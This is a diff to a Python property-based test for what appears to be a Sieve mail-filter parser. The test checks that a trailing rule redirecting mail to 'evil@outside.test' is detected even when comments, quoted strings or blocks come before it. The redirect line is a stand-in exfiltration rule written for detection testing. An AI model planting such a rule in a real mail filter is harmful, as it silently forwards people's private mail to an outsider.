@@ -69,6 +69,19 @@ def test_any_text_is_read_without_an_error(script: str) -> None:
     read_script(script, lambda name: script)
 
 
-@given(st.text(alphabet='redirect";{}:\\/*# \n.x@', max_size=80))
-def test_a_redirect_is_seen_behind_any_complete_command(before: str) -> None:
-    read_script(before + '\nredirect "evil@outside.test";', lambda name: "")
+COMMANDS = st.sampled_from(
+    [
+        "keep;",
+        "stop;",
+        '# a remark with redirect "x@y.test";\n',
+        "/* and\n another */",
+        'fileinto "a;b{c}\\"d";',
+        "if true { keep; }",
+    ]
+)
+
+
+@given(st.lists(COMMANDS, max_size=6))
+def test_a_redirect_is_seen_behind_any_complete_command(before: list[str]) -> None:
+    found = read_script(" ".join(before) + '\nredirect "evil@outside.test";', lambda name: "")
+    assert "evil@outside.test" in found.outside(OURS)
